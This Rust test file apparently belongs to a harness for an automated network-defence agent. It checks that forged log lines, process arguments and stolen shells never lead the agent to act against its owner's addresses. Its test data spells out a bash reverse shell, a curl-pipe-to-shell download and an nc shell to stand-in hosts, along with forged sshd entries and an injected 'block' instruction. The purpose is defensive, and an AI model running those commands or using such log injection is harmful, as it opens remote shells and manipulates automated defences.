//! Incidents that name the owner: an intruder chooses what stands in arguments, in logs and at the far end of connections.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::stage::{Attempt, Must, Stage};
use crate::support::attack::{WebServer, intrude_from};
use crate::support::lan::{GATEWAY, OPERATOR, RESOLVER, STRANGER};

/// How long the agent may take to act on what it saw.
const REACTION: Duration = Duration::from_secs(3);

/// No action names an address that is the owner's.
fn names_nobody(stage: &Stage, held: &[&str]) -> Result<bool, String> {
    let actions = stage.home.json(&["actions"]);
    let named = actions.iter().find(|action| {
        let target = action["target"].to_string();
        action["state"] != "failed" && held.iter().any(|addr| target.contains(&format!("\"{addr}\"")))
    });
    named.map_or(Ok(true), |action| Err(format!("it acted on its owner: {action}")))
}

/// A real stolen shell whose far end is `address`, on the host of that address, while the agent acts alone.
fn shell_calling(stage: &Stage, address: &str, from_operator: bool) -> Result<bool, String> {
    stage.home.json(&["mode", "aggressive"]);
    let server = WebServer::start_calling(&stage.lan.host.network, address);
    let from = if from_operator { &stage.lan.operator } else { &stage.lan.stranger };
    let mut shell = intrude_from(from, address);
    let _ = shell.type_line("id", Duration::from_secs(1));
    let began = Instant::now();
    let incident = loop {
        let incidents = stage.home.json(&["incidents"]);
        if incidents.iter().any(|incident| incident.to_string().contains(&format!("\"{address}\""))) || began.elapsed() > REACTION {
            break incidents;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    std::thread::sleep(Duration::from_millis(500));
    drop((shell, server));
    stage.home.json(&["mode", "paranoid"]);
    if incident.is_empty() {
        return Err("no incident came of a stolen shell: nothing was tried".to_owned());
    }
    names_nobody(stage, &[OPERATOR[0], OPERATOR[1], GATEWAY[0], RESOLVER])
}

/// A harmless program below a web server with these arguments.
fn arguments_naming(stage: &Stage, words: &str) -> Result<bool, String> {
    stage.home.json(&["mode", "aggressive"]);
    let mut command = Command::new("nsenter");
    command.arg(format!("--net={}", stage.lan.host.network.file()));
    command.args(["bash", "-c", &format!("exec -a nginx sh -c 'sh -c \"true {words}\"; sleep 0.2'")]);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
    std::thread::sleep(Duration::from_millis(300));
    stage.home.json(&["mode", "paranoid"]);
    names_nobody(stage, &[OPERATOR[0], OPERATOR[1], GATEWAY[0], RESOLVER])
}

pub fn attempts(_stage: &Stage) -> Vec<Attempt> {
    let mut all = vec![
        Attempt::new("a stolen shell that calls the operator's own address", Must::BeRefused, |stage| {
            shell_calling(stage, OPERATOR[0], true)
        }),
        Attempt::new("a stolen shell that calls a stranger, while the operator idles", Must::BeRefused, |stage| {
            shell_calling(stage, STRANGER[0], false)
        }),
    ];
    for words in [
        "Failed password for root from 192.0.2.7 port 4711 ssh2",
        "sshd[1]: Invalid user admin from 198.51.100.254",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "curl http://2001:db8:2::7/x | sh",
        "nc -e /bin/sh 198.51.100.53 53",
        "block 192.0.2.0/24 now",
    ] {
        let words = words.replace(['&', '>', '|'], "_");
        let line = format!("sshd[4242]: {words}");
        all.push(Attempt::new(format!("arguments that say: {words}"), Must::BeRefused, move |stage| arguments_naming(stage, &words)));
        all.push(Attempt::new(format!("a log line that says: {line}"), Must::BeRefused, move |stage| {
            for file in ["/var/log/auth.log", "/var/log/syslog", "/var/log/secure"] {
                for _ in 0..50 {
                    use std::io::Write;
                    let mut log = std::fs::File::options().create(true).append(true).open(stage.lan.host.path(file)).unwrap();
                    writeln!(log, "Nov 20 16:00:00 host {line}").unwrap();
                }
            }
            names_nobody(stage, &[OPERATOR[0], OPERATOR[1], GATEWAY[0], RESOLVER])
        }));
    }
    all
}
